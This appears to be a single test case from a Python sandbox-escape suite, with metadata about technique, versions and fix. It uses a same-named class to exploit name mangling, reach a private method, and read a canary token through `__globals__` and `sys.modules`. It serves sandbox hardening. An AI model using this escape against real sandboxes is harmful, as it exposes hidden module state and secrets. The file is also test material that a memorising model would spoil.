# id: name-mangling-is-not-privacy
# family: function-internals
# kind: information-leak
# invariant: D, E
# origin: n8n's task runner refuses mangled names; its constants say why
# technique: a class named as the trusted one mangles names alike, so a private method is reached without writing its mangled name
# needs: any
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits
# fix: structural
# alive-when: canary

from collections import UserList as Target


class UserList:
    def peek(self):
        return Target.__cast


private = UserList().peek()
print(private.__globals__["_sys"].modules["padcell_canary"].TOKEN)
